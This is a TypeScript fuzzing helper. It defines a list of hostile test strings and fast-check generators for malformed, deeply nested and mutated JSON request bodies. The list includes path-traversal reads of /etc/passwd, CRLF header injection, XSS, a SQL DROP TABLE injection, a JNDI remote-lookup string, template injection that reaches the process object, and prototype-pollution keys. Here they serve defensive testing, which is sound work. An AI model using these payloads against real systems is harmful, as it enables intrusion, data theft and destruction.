/**
 * Hostile input for the fuzzers: strings that have broken parsers, paths, logs and headers before
 * (traversal, NUL, CRLF, lone surrogates, format strings, huge), values of every JSON type, deep
 * nesting, and "almost valid" bodies made by breaking one or more fields of a valid one.
 */
import fc from 'fast-check';

export const NASTY_STRINGS = [
  '',
  ' ',
  '../../../../etc/passwd',
  '..\\..\\..\\windows\\win.ini',
  '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
  '/etc/passwd',
  'souls/../../package.json',
  'lead/../../..',
  '\u0000',
  'a\u0000b',
  'line1\r\nX-Injected: yes',
  '\r\n\r\nHTTP/1.1 200 OK',
  '\ud800',
  '\udfff\ud800',
  '\u202e\u2066',
  '😀👩‍👩‍👧',
  '<script>alert(1)</script>',
  "'; DROP TABLE tasks; --",
  '${jndi:ldap://x/a}',
  '{{constructor.constructor("return process")()}}',
  '%s%s%s%n',
  '__proto__',
  'constructor',
  'user:u1:lead',
  'user:u1:../../etc',
  'user:u1:lead:extra',
  'user::lead',
  'agent-turn/u1/x',
  'clasper-heartbeat/u1/lead',
  '0',
  '-1',
  '1e309',
  'NaN',
  'true',
  'null',
] as const;

/** Short hostile or random strings, with the occasional huge one. */
export function evilString(maxHuge = 120_000): fc.Arbitrary<string> {
  return fc.oneof(
    { weight: 4, arbitrary: fc.constantFrom(...NASTY_STRINGS) },
    { weight: 3, arbitrary: fc.string({ maxLength: 40 }) },
    { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
    {
      weight: 1,
      arbitrary: fc.integer({ min: Math.min(1_000, maxHuge), max: maxHuge }).map((n) => 'x'.repeat(n)),
    },
  );
}

/** Nested objects/arrays `depth` levels deep (keep it under ~1,000: JSON.stringify recurses). */
export function nested(depth: number, leaf: unknown = 1): unknown {
  let value: unknown = leaf;
  for (let i = 0; i < depth; i++) value = i % 2 === 0 ? { a: value } : [value];
  return value;
}

/** The JSON text of `{"a":[{"a":[…1…]}]}` nested `depth` deep, built without recursion. */
export function nestedJson(depth: number): string {
  let open = '';
  let close = '';
  for (let i = depth - 1; i >= 0; i--) {
    const object = (depth - 1 - i) % 2 === 0;
    open += object ? '{"a":' : '[';
    close = (object ? '}' : ']') + close;
  }
  return `${open}1${close}`;
}

/** encodeURIComponent that does not throw on lone surrogates (they become U+FFFD, as a browser would send). */
export function encodePathValue(s: string): string {
  return encodeURIComponent(
    s.replace(/[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/g, '\ufffd'),
  );
}

/** Any JSON value, hostile strings included, sometimes deeply nested. */
export function evilValue(): fc.Arbitrary<unknown> {
  return fc.oneof(
    { weight: 4, arbitrary: evilString() },
    { weight: 2, arbitrary: fc.oneof(fc.integer(), fc.double(), fc.boolean(), fc.constant(null)) },
    { weight: 2, arbitrary: fc.jsonValue({ maxDepth: 3 }) },
    { weight: 1, arbitrary: fc.integer({ min: 50, max: 800 }).map((d) => nested(d)) },
  );
}

/**
 * A valid body with some fields replaced by hostile values, some removed and some unknown ones
 * added: most of the generated bodies are one mistake away from valid, where bugs hide.
 */
export function mutated(
  valid: Record<string, unknown>,
  extraKeys: string[] = [],
): fc.Arbitrary<Record<string, unknown>> {
  const keys = [...new Set([...Object.keys(valid), ...extraKeys])];
  return fc
    .record({
      replace: fc.subarray(keys),
      drop: fc.subarray(Object.keys(valid), { maxLength: Math.min(2, Object.keys(valid).length) }),
      values: fc.array(evilValue(), { minLength: keys.length, maxLength: keys.length }),
      extra: fc.dictionary(fc.string({ maxLength: 12 }), evilValue(), { maxKeys: 2 }),
    })
    .map(({ replace, drop, values, extra }) => {
      const body: Record<string, unknown> = { ...valid, ...extra };
      replace.forEach((k) => {
        body[k] = values[keys.indexOf(k)];
      });
      drop.forEach((k) => delete body[k]);
      return body;
    });
}
